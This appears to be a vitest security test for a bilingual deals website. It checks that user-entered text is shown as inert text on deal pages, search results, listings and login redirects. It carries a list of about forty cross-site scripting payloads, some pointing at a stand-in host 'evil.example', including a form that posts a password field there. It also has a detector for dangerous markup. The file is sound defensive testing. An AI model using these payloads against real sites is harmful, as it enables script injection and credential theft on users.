/** What people write stays text in every page, whatever it looks like. */
import { Window } from 'happy-dom';
import { expect, test } from 'vitest';
import { PAGE_SIZE } from '#core/contract/deals.ts';
import { seedCategories } from '#server/seed.ts';
import { startShop } from '#test/client.ts';
import { newDeal } from '#test/shoppers.ts';
import { createShop } from '../app.ts';

const shop = await startShop({ makeApp: createShop, config: { rateLimitScale: 100_000 } });
await seedCategories(shop.db);

const RUN = 'alert(1)';
const payloads = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</SCRIPT ><script src=//evil.example/x.js></script>`,
  `<!--<script>${RUN}-->`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `\` onload=${RUN} \``,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<form action="https://evil.example/"><input name=password>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<template><script>${RUN}</script></template>`,
  `<x contenteditable onblur=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\u2028\u2029</script>`,
  `＜script＞${RUN}＜/script＞`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

/** The one script that stands in a page, the same in each. */
const EARLY = /<script>.*?<\/script>/s.exec((await shop.app.inject('/terms-of-service')).body)?.[0];

const OF_OTHERS =
  'iframe, object, embed, base, meta[http-equiv], link[rel=stylesheet], template, math, [srcdoc], [style]';
const RUNS = /^\s*(javascript|vbscript|data:(text|application))/i;

/** What of a page would run, lead away or be laid out by somebody else. */
function dangersIn(html: string): string[] {
  const { document } = new Window();
  document.write(html);
  const dangers = [...document.querySelectorAll(OF_OTHERS)].map((element) => element.outerHTML);
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of [...element.attributes].map((it) => ({ name: it.name, value: it.value ?? '' }))) {
      const isAddress = ['href', 'src', 'action', 'formaction'].includes(name);
      const leaves = name !== 'src' && isAddress && URL.canParse(value) && !value.startsWith('http://localhost');
      if (/^on/i.test(name) || (isAddress && RUNS.test(value)) || leaves) dangers.push(`${name}=${value}`);
    }
    const isData = /^application\/(ld\+)?json$/.test(element.getAttribute('type') ?? '');
    if (element.tagName === 'SCRIPT' && isData) JSON.parse(element.textContent);
    else if (element.tagName !== 'SCRIPT' || element.getAttribute('src')?.startsWith('/assets/')) continue;
    else if (element.outerHTML !== EARLY) dangers.push(element.outerHTML);
  }
  return dangers;
}

test('the test can tell', () => {
  const seen = payloads.filter((payload) => dangersIn(`<p title="${payload}">${payload}</p>`).length > 0);
  expect(seen.length).toBeGreaterThan(payloads.length * 0.6);
  expect(dangersIn('<a href="/cart">x</a><script src="/assets/a.js"></script>')).toEqual([]);
});

const newDealOf = (payload: string) =>
  newDeal(shop.db, {
    ...{ title: payload.slice(0, 160), titleEn: payload, description: payload, descriptionEn: payload },
    ...{ businessName: payload, businessInfo: payload, businessInfoEn: payload },
    ...{ hours: payload, address: payload, city: 'kruje' },
  });
const hide = (ids: string[]) => shop.pool.query('update deals set is_hidden = true where id = any($1)', [ids]);

test.each(payloads)('%j is text on every page', async (payload) => {
  const id = await newDealOf(payload);
  const said = encodeURIComponent(payload);
  const addresses = [`/deal/${id}`, `/deal/${id}?lang=en`, `/?search=${said}`, `/login?next=${said}`, `/${said}`];
  for (const url of addresses) {
    const { body, headers, statusCode } = await shop.app.inject({ url });
    expect(statusCode, url).toBeLessThan(500);
    if (headers.location) expect(headers.location).toMatch(/^\/(?!\/)/);
    if (String(headers['content-type']).includes('html')) expect(dangersIn(body), url).toEqual([]);
  }
  await hide([id]);
});

test('all of them are text in a list, in both languages', async () => {
  for (let at = 0; at < payloads.length; at += PAGE_SIZE) {
    const listed = payloads.slice(at, at + PAGE_SIZE);
    const ids = await Promise.all(listed.map(newDealOf));
    for (const language of ['sq', 'en']) {
      shop.clock.move(600_000);
      const { body } = await shop.app.inject({ url: `/?city=kruje&lang=${language}` });
      expect(ids.filter((id) => !body.includes(`href="/deal/${id}"`))).toEqual([]);
      expect(dangersIn(body)).toEqual([]);
    }
    await hide(ids);
  }
});
